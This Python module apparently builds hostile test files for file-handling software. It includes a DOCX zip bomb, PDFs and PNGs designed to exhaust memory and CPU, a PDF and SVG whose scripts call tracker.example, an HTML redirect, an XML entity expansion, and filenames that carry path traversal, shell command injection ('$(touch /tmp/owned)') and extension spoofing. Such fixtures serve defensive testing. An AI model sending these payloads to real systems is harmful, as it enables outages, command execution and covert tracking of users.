"""Files made to hurt whoever looks at them. Each docstring tells the attack."""

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from functools import cache
from io import BytesIO

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument'
    '.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
_BEGINNING = (
    b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>"
)
_END = b"</w:t></w:r></w:p></w:body></w:document>"


def docx(text: Iterable[bytes]) -> bytes:
    """A Word document of one paragraph."""
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _RELATIONS)
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(_BEGINNING)
            for piece in text:
                part.write(piece)
            part.write(_END)
    return target.getvalue()


def xlsx(rows: list[list[str]]) -> bytes:
    """A spreadsheet of these cells."""
    cells = "".join(f"<row>{''.join(map(_cell, row))}</row>" for row in rows)
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    book = f'<workbook {main} xmlns:r="{office}"><sheets><sheet name="1" sheetId="1" r:id="r"/></sheets></workbook>'
    sheets = _RELATIONS.replace('officeDocument" Target', 'worksheet" Target').replace("word/document", "sheet")
    return _zipped(
        {
            "[Content_Types].xml": _TYPES.replace("/word/document.xml", "/xl/workbook.xml")
            .replace("wordprocessingml.document", "spreadsheetml.sheet")
            .replace(
                "</Types>",
                '<Override PartName="/xl/sheet.xml" ContentType="application/vnd.openxmlformats-officedocument'
                '.spreadsheetml.worksheet+xml"/></Types>',
            ),
            "_rels/.rels": _RELATIONS.replace("word/document.xml", "xl/workbook.xml"),
            "xl/workbook.xml": book,
            "xl/_rels/workbook.xml.rels": sheets,
            "xl/sheet.xml": f"<worksheet {main}><sheetData>{cells}</sheetData></worksheet>",
        }
    )


def ods(rows: list[list[str]]) -> bytes:
    """The same as an OpenDocument."""
    names = ("office", "table", "text")
    spaces = " ".join(f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in names)
    cells = "".join(
        f"<table:table-row>{''.join(f'<table:table-cell><text:p>{cell}</text:p></table:table-cell>' for cell in row)}"
        "</table:table-row>"
        for row in rows
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    return _zipped(
        {
            "mimetype": kind,
            "content.xml": f"<office:document-content {spaces}><office:body><office:spreadsheet>"
            f'<table:table table:name="1">{cells}</table:table></office:spreadsheet></office:body>'
            "</office:document-content>",
            "META-INF/manifest.xml": f'<m:manifest xmlns:m="{manifest}"><m:file-entry m:full-path="/" '
            f'm:media-type="{kind}"/><m:file-entry m:full-path="content.xml" m:media-type="text/xml"/></m:manifest>',
        }
    )


def _cell(text: str) -> str:
    return f'<c t="inlineStr"><is><t>{text}</t></is></c>'


def _zipped(members: dict[str, str]) -> bytes:
    target = BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


@cache
def zip_bomb() -> bytes:
    """One megabyte that unpacks to one gigabyte of text."""
    return docx(b"A" * 2**20 for _ in range(1024))


def pdf(*objects: bytes) -> bytes:
    """A PDF of these objects; the first is the catalogue."""
    out, offsets = b"%PDF-1.4\n", []
    parts = [out]
    position = len(out)
    for number, content in enumerate(objects, 1):
        offsets.append(position)
        part = b"%d 0 obj\n%b\nendobj\n" % (number, content)
        parts.append(part)
        position += len(part)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n%b" % (len(objects) + 1, table))
    parts.append(b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, position))
    return b"".join(parts)


def one_page(content: bytes, catalogue: bytes = b"", page: bytes = b"") -> bytes:
    """A PDF of one page that is drawn by `content`."""
    packed = zlib.compress(content, 9)
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R%b>>" % catalogue,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R%b>>" % page,
        b"<</Length %d/Filter/FlateDecode>>\nstream\n%b\nendstream" % (len(packed), packed),
    )


def many_pages(count: int = 10_000) -> bytes:
    """Whoever renders all pages is busy for an hour."""
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"
    pages = b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, count)
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", pages, *[page] * count)


def with_javascript() -> bytes:
    """Runs a program on opening, and links to a page that tells its owner who clicked."""
    return one_page(
        b"",
        b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://tracker.example/opened'\\))>>",
        b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://tracker.example/clicked)>>>>]",
    )


@cache
def endless_drawing() -> bytes:
    """Three hundred kilobytes that draw two million large shapes."""
    return one_page(b"0.001 0 0 0.001 0 0 cm " + b"q 1 0 0 1 1 1 cm 0 0 m 100000 100000 l 50000 0 l f Q\n" * 2_000_000)


def endless_allocation() -> bytes:
    """Three hundred nested groups of transparency, each drawn twice by the one above it: 2³⁰⁰ bitmaps."""
    levels = 300
    forms = [
        b"<</Type/XObject/Subtype/Form/BBox[0 0 20000 20000]/Group<</S/Transparency/I true>>/Length 15"
        b"/Resources<</XObject<</F %d 0 R>>>>>>\nstream\n/F Do /F Do %%%%\nendstream" % (6 + level)
        for level in range(levels)
    ]
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 20000 20000]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>",
        b"<</Length 6>>\nstream\n/F Do \nendstream",
        *forms,
    )


def png(width: int, height: int, row: Callable[[int], bytes]) -> bytes:
    """A grey PNG; `row` gives the bytes of each line."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b"\0" + row(number)) for number in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


@cache
def billion_pixels() -> bytes:
    """One megabyte that is a picture of 10⁹ pixels."""
    return png(40_000, 25_000, lambda _: bytes(40_000))


def claims_a_billion_pixels() -> bytes:
    """The same size, and no pixels at all."""
    header = struct.pack(">IIBBBBB", 40_000, 25_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(b"")) + _chunk(b"IEND", b"")


SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://tracker.example/svg")</script>'
    b'<image href="http://tracker.example/image"/></svg>'
)
HTML = b'<!DOCTYPE html><script>location="http://tracker.example/html"</script><p>photo</p>'
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
# Names that try to leave the folder, to run, to be an option of a program, or to look like something else.
NAMES = (
    "../../../../etc/cron.d/x.pdf",
    "-rf.pdf",
    "--help",
    "$(touch /tmp/owned).pdf",
    "a;touch owned;.docx",
    "invoice\u202efdp.exe",
    "photo.jpg.exe",
    "x" * 5000,
    "新\n行.pdf",
    "\0.pdf",
    "",
)


def _chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
